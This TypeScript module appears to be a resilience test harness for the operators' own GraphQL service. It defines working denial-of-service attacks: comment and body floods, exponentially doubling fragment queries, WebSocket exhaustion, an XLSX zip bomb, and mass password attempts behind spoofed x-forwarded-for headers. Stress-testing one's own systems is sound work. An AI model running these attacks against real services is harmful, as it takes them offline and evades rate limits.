import { randomBytes } from 'node:crypto';
import { request, type ClientRequest } from 'node:http';
import { zipSync } from 'fflate';
import WebSocket from 'ws';
import type { Target } from './target';

/** An attack goes on until its process is killed. */
type Attack = (target: Target) => Promise<unknown>;

let made = 0;
/** A number that no other request of this attack has. */
const next = (): number => (made += 1);
const network = (place: number): string => `203.0.113.${(place % 8) + 1}`;

/** Told of each answer, so that a run shows what those who attack were told. */
let onAnswer: (answer: string) => void = () => undefined;
export function listen(listener: (answer: string) => void): void {
  onAnswer = listener;
}

interface Sent {
  readonly token?: string;
  readonly address?: string;
}

/** Posts a body; resolves when it is answered, or the connection is gone. */
function post({ url }: Target, body: string, { token, address = network(next()) }: Sent = {}): Promise<void> {
  return new Promise((resolve) => {
    const asked = request(url, { method: 'POST', headers: headersOf(token, address) }, (response) => {
      let text = '';
      response.setEncoding('utf8').on('data', (part: string) => (text += text.length < 300 ? part : ''));
      response.on('close', () => {
        onAnswer(`${response.statusCode} ${text}`.slice(0, 200));
        resolve();
      });
    });
    asked.on('error', () => resolve());
    asked.end(body);
  });
}

function headersOf(token: string | undefined, address: string): Record<string, string> {
  return {
    'content-type': 'application/json',
    'x-forwarded-for': address,
    ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
  };
}

const ask = (target: Target, query: string, variables: object = {}, sent: Sent = {}): Promise<void> =>
  post(target, JSON.stringify({ query, variables }), sent);

/** So many at once, again and again. */
async function always(atOnce: number, one: () => Promise<unknown>): Promise<never> {
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      for (;;) await one();
    }),
  );
  throw new Error('it never ends');
}

/** Fragments that each spread the next one under so many aliases, in a field that leads back to their type. */
function doubling(
  type: string,
  way: (within: string) => string,
  leaf: string,
  levels: number,
  aliases: number,
): string {
  const spread = (level: number): string =>
    Array.from({ length: aliases }, (_, place) => `a${place}: ${way(`...F${level}`)}`).join(' ');
  const fragments = Array.from(
    { length: levels },
    (_, level) => `fragment F${level} on ${type} { ${level + 1 < levels ? spread(level + 1) : leaf} }`,
  );
  return fragments.join('\n');
}

const bomb = (name: string, text: string): string =>
  Buffer.from(
    zipSync({
      '[Content_Types].xml': Buffer.from(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
      'xl/workbook.xml': Buffer.from(
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="1" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>',
      ),
      'xl/_rels/workbook.xml.rels': Buffer.from(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
      [name]: Buffer.from(text),
    }),
  ).toString('base64');

const IMPORT = `mutation ($input: ImportMemberUnitsInput!) { importMemberUnits(input: $input) { created userErrors { code } } }`;

function socket({ url }: Target, address: string, onOpen: (socket: WebSocket) => void): Promise<void> {
  return new Promise((resolve) => {
    const opened = new WebSocket(url.replace(/^http/, 'ws'), 'graphql-transport-ws', {
      headers: { 'x-forwarded-for': address },
    });
    opened.on('error', () => undefined).on('close', () => resolve());
    opened.on('open', () => onOpen(opened));
  });
}

const send = (to: WebSocket, message: object): void => to.send(JSON.stringify(message));

export const attacks: Readonly<Record<string, Attack>> = {
  'documents of four megabytes of comments': (target) =>
    always(8, () => ask(target, `{__typename}\n${`#${next()}\n`.repeat(500_000)}`)),

  'documents of many small comments, as large as they may be': (target) =>
    always(8, () => ask(target, `{__typename}#${next()}\n${'#\n'.repeat(31_000)}`)),

  'bodies that never end': async ({ url }) => {
    const open: ClientRequest[] = [];
    for (;;) {
      const asked = request(url, {
        method: 'POST',
        headers: { ...headersOf(undefined, network(next())), 'content-length': '13000000' },
      });
      asked.on('error', () => undefined);
      asked.write(`{"query":"${' '.repeat(200_000)}`);
      open.push(asked);
      await new Promise((resolve) => setTimeout(resolve, 5));
      if (open.length > 500) open.shift()?.destroy();
    }
  },

  'fragments that double': (target) =>
    always(4, () => {
      const levels = 4 + (next() % 7);
      return ask(
        target,
        `query Q${next()} ($slug: String!) { alliance(slug: $slug) { territories { ...F0 } } }
         ${doubling('Territory', (within) => `bodies { territories { ${within} } }`, 'id name', levels, 2)}`,
        { slug: target.allianceSlug },
      );
    }),

  'objects of any type, doubled': (target) =>
    always(4, () =>
      ask(
        target,
        `query Q${next()} ($id: ID!) { node(id: $id) { ...F0 } }
         ${doubling('Territory', (within) => `parent { ${within} }`, 'id name households', 9, 4)}`,
        { id: target.meetingId },
      ),
    ),

  'introspection, nested': (target) =>
    always(4, () =>
      ask(
        target,
        `query Q${next()} { ${Array.from({ length: 12 }, (_, place) => `a${place}: __schema { types { name description fields { name description args { name description type { name description } } type { name description fields { name description type { name description } } } } } }`).join(' ')} }`,
      ),
    ),

  'texts to search for': (target) =>
    always(11, () =>
      ask(
        target,
        'query ($slug: String!, $text: String!) { alliance(slug: $slug) { memberUnits(filter: { text: $text }) { totalCount } } }',
        { slug: target.allianceSlug, text: '%_'.repeat(next() % 2 === 0 ? 90 : 100_000) },
      ),
    ),

  'the dearest queries that may be asked': (target) =>
    always(16, () =>
      ask(
        target,
        `query Q${next() % 50} ($slug: String!) { alliance(slug: $slug) {
           a: memberUnits(first: 100) { totalCount nodes { name sectorGroups { name } territory { name } agreements(first: 10) { nodes { title parties { unit { name } } } } } }
         } }`,
        { slug: target.allianceSlug },
        { address: network(0) },
      ),
    ),

  'statements that are not asked twice': (target) =>
    always(8, async () => {
      const place = next();
      const query = `query ($slug: String!) { alliance(slug: $slug) { ${Array.from({ length: 12 }, (_, field) => `f${place}x${field}: memberUnits(first: 2) { nodes { name kind territory { name } sectorGroups { name } } }`).join(' ')} } }`;
      for (let time = 0; time < 3; time += 1) await ask(target, query, { slug: target.allianceSlug });
    }),

  'an agreement that is checked fifteen times': (target) =>
    always(4, () =>
      ask(
        target,
        `query Q${next()} ($id: ID!) { agreement(id: $id) { ${Array.from({ length: 14 }, (_, place) => `a${place}: integrity { valid }`).join(' ')} evidence } }`,
        { id: target.agreementId },
        { token: target.memberToken },
      ),
    ),

  'sockets that say nothing': (target) => always(300, () => socket(target, network(next()), () => undefined)),

  'sockets that do not read': (target) =>
    always(40, () =>
      socket(target, network(next()), (opened) => {
        opened.pause();
        send(opened, { type: 'connection_init' });
        setTimeout(() => {
          for (let place = 0; place < 20; place += 1)
            send(opened, {
              id: String(place),
              type: 'subscribe',
              payload: {
                query:
                  'query ($slug: String!) { alliance(slug: $slug) { memberUnits(first: 100) { nodes { id name shortName kind } } } }',
                variables: { slug: target.allianceSlug },
              },
            });
        }, 50);
      }),
    ),

  'live documents of eight networks': (target) =>
    always(64, () =>
      socket(target, network(next()), (opened) => {
        send(opened, { type: 'connection_init' });
        opened.on('message', (data) => {
          if (!String(data).includes('connection_ack')) return;
          send(opened, {
            id: '1',
            type: 'subscribe',
            payload: {
              query: `subscription ($id: ID!) { agendaUpdates(meetingId: $id) { revision f${next()}: revision } }`,
              variables: { id: target.meetingId },
            },
          });
        });
      }),
    ),

  'a roster of eleven million attributes': (target) => {
    const contentBase64 = bomb(
      'xl/worksheets/sheet1.xml',
      `<worksheet><sheetData><row ${'a="" '.repeat(11_000_000)}/></sheetData></worksheet>`,
    );
    const body = (): string =>
      JSON.stringify({
        query: IMPORT,
        variables: { input: { allianceId: target.allianceId, format: 'XLSX', contentBase64, dryRun: true } },
      });
    return always(2, () => post(target, body(), { token: target.secretariatToken }));
  },

  'a roster of commas': (target) => {
    const contentBase64 = Buffer.from(','.repeat(8_000_000)).toString('base64');
    const body = JSON.stringify({
      query: IMPORT,
      variables: { input: { allianceId: target.allianceId, format: 'CSV', contentBase64, dryRun: true } },
    });
    return always(2, () => post(target, body, { token: target.secretariatToken }));
  },

  'passwords that are guessed': (target) =>
    always(60, () =>
      ask(
        target,
        'mutation ($input: SignInInput!) { signIn(input: $input) { userErrors { code } } }',
        { input: { email: `${randomBytes(6).toString('hex')}@test.example`, password: 'not the password' } },
        { address: network(next()) },
      ),
    ),
};
